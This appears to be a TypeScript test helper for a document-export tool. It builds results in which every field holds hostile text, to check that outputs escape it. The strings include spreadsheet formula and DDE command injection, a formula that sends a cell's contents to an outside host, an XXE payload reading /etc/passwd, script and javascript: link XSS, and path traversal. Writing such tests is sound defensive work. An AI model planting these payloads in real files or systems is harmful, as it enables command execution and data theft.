/** What outputs are made from in tests: every document of the fixtures, and results in which every text is hostile. */
import { parseText } from '../../src/index.ts';
import type { Result } from '../../src/model/result.ts';
import { loadFixtures } from '../fixtures/load.ts';
import { sample } from './sample.ts';

export const documents: readonly { name: string; result: Result }[] = loadFixtures()
  .filter(({ name }) => name.startsWith('documents/'))
  .map(({ name, path, text }) => ({ name, result: parseText(text, { path: `${name}/${path.split(/[\\/]/).pop()}` }) }));

/** Texts that a document may carry into an output, by what they try. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://example.org/?"&A1,"x")',
  'formula behind blanks': " \t+cmd|' /C calc'!A0",
  'command in the old way': "@SUM(1+1)*cmd|' /C calc'!A0",
  markup: '</w:t></w:r><script>alert(1)</script>&amp;<!-- ]]> -->',
  entity: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'header and footer codes': '&"Courier"&24&P&[Date]&D',
  path: '../../../etc/passwd\u0000.xlsx',
  'lines of a calendar': 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://example.org\r\n',
  'escapes of a calendar': 'a;b,c\\n\\;d:"e"\\',
  'escapes of a workbook': '_x0041_ _x000D_ _xD800_',
  'controls and halves of pairs': 'a\u0000b\u0001c\u001B[31md\u0085e\u2028f\uD800g\uDC00h\uFFFEi\uFFFF',
  'separators and quotes': 'a,b;c\t"d"\'e\'|f\\|g\r\nh\ni\rj',
  'markup of Markdown': '[x](javascript:alert(1)) **b** `c` <b> # | --- | &lt;',
  'a cell that is too long': `${'Đ😀'.repeat(14_000)}`,
  'marks that turn text around': '\u202Eabc\u202C\u200B\uFEFF',
};

/** A document in which every text is this one. */
export function hostileResult(text: string): Result {
  const [task] = sample.tasks;
  const body = { ...task!.lead[0]!, name: text, text };
  const grounded = { text, span: null, certainty: 'inferred' } as const;
  const deadline = { ...task!.deadline!, text };
  return {
    ...sample,
    source: { ...sample.source, path: text },
    document: {
      ...sample.document,
      number: { ...sample.document.number!, text, number: null, symbol: null },
      type: { ...sample.document.type!, name: text },
      issuer: body,
      title: grounded,
      signatures: [{ ...sample.document.signatures[0]!, name: text, position: text }],
    },
    sections: sample.sections.map((section) => ({ ...section, title: grounded })),
    tasks: [
      {
        ...task!,
        ...{ text, section: text, key: text, lead: [body], support: [body], reportTo: [body], deadline },
        ...{ otherDeadlines: [deadline], deliverables: [grounded], doubts: [text] },
      },
    ],
  };
}
